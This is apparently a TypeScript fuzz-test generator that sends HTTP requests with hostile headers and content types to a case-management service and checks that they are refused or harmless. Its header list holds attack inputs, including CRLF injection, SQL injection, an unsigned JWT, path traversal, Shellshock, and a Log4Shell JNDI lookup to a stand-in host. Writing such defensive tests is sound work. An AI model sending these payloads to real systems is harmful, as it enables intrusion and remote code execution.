import { fullRequest, minimalRequest } from '../../requests/case-request.js';
import { type HostileRequest, ordinaryRequest } from './hostile-request.js';
import type { Random } from './random.js';
import type { Targets } from './targets.js';

const hostileHeaders: readonly string[] = [
  'X-Request-Id: a b',
  `X-Request-Id: ${'a'.repeat(65)}`,
  'X-Request-Id: {"a":1}',
  'X-Request-Id: a%0d%0aSet-Cookie: a=b',
  'X-Request-Id: \u001b[31mred'.replace('\u001b', '\u00ff'),
  'X-Request-Id: ../../../x',
  'X-Request-Id: ',
  'Authorization: Bearer',
  'Authorization: Bearer a.b.c',
  'Authorization: Basic YTpi',
  `Authorization: Bearer ${'x'.repeat(5000)}`,
  'Authorization: \u00ff\u00fe',
  'Authorization: Bearer null',
  'Authorization: Bearer eyJhbGciOiJub25lIn0.e30.',
  'X-Api-Key: ',
  "X-Api-Key: ' or 1=1",
  'Cookie: a=b; a=b; __proto__=1',
  'Sec-Purpose: prefetch',
  'Purpose: prefetch',
  'X-Http-Method-Override: DELETE',
  'X-Method-Override: POST',
  'X-Original-Url: /deleteCase',
  'X-Rewrite-Url: /deleteCase',
  'X-Forwarded-For: 127.0.0.1',
  'X-Forwarded-Host: evil.example',
  'X-Forwarded-Proto: javascript',
  'Forwarded: for=127.0.0.1;host=evil',
  'Accept: */*;q=x',
  `Accept: ${'a/b,'.repeat(2000)}`,
  'Accept-Encoding: gzip;q=9',
  'Accept-Language: ../../etc/passwd',
  'Range: bytes=0-,0-,0-,0-',
  'Range: bytes=-1',
  'If-None-Match: *',
  'If-Match: "x"',
  'If-Modified-Since: never',
  'Upgrade: websocket',
  'Upgrade: h2c',
  'Expect: 100-continue',
  'TE: trailers, deflate',
  'Trailer: Host',
  'Via: x',
  'Content-MD5: x',
  'Origin: null',
  'Origin: https://evil.example',
  'Referer: javascript:alert(1)',
  'User-Agent: () { :;}; echo',
  'User-Agent: $\x7bjndi:ldap://evil.example/a}',
  '__proto__: x',
  'constructor: x',
  'Host2: x',
  'Keep-Alive: timeout=-1, max=1e9',
  'Max-Forwards: 0',
];

/** None of them is taken for JSON. */
const otherTypes: readonly string[] = [
  '',
  ' ',
  'text/plain',
  'application/xml',
  'multipart/form-data; boundary=x',
  'application/x-www-form-urlencoded',
  'application/json-patch+json',
  'application/jsonp',
  'text/json',
  'application/*',
  '*/*',
  'application',
  'application/json, text/plain',
  'application/json;charset=utf-16',
  'application/json; charset=iso-8859-1',
  'application/json; charset="utf-7"',
  'application/json; charset=',
  'xapplication/json',
  'application/json/x',
  'a'.repeat(5000),
  ';',
  '\u00ff',
  'null',
  '__proto__',
];

/**
 * Headers that promise, pretend or confuse, on requests that only read, or whose content type is none that is taken.
 */
export function headers(random: Random, { caseIds, subId }: Targets): HostileRequest {
  const lines = Array.from({ length: 1 + random.below(4) }, () => random.one(hostileHeaders));
  if (random.chance(3)) lines.push(...Array.from({ length: 90 + random.below(60) }, (_, at) => `X-Many-${at}: 1`));
  // What says that it comes from a page of another site is answered with 403 where nobody must sign in.
  const strange = lines.some((line) => line.startsWith('Origin:') || line.startsWith('Referer:'));
  const orStrange = (request: HostileRequest): HostileRequest =>
    strange ? { ...request, alsoAnswered: [403] } : request;
  const query = `caseId=${random.one(caseIds)}&subId=${subId}`;
  const dice = random.below(100);
  if (dice < 45)
    return orStrange(
      ordinaryRequest('be harmless', {
        target: random.one([
          `/transferCaseFromDBDetails?${query}`,
          `/caseList?subId=${subId}`,
          '/subIdList',
          '/health/live',
          `/transferCaseFromDB?${query}`,
        ]),
        headers: lines,
      }),
    );
  if (dice < 90) {
    const target = random.one([
      `/createCaseInDB?caseId=NEW&subId=${subId}`,
      '/userAction',
      '/createAndCapture',
      `/modifyCase?${query}`,
    ]);
    return orStrange(
      ordinaryRequest('be refused', {
        target,
        headers: lines,
        body: JSON.stringify(random.chance(50) ? minimalRequest('NEW') : fullRequest('NEW')),
        contentType: random.one(otherTypes),
      }),
    );
  }
  // What is expected is nothing that this service can do, and it says so.
  const expecting = ordinaryRequest('be harmless', {
    target: '/subIdList',
    headers: [random.one(['Expect: 200-ok', 'Expect: x', `Expect: ${'1'.repeat(1000)}`])],
  });
  return { ...expecting, alsoAnswered: [417] };
}
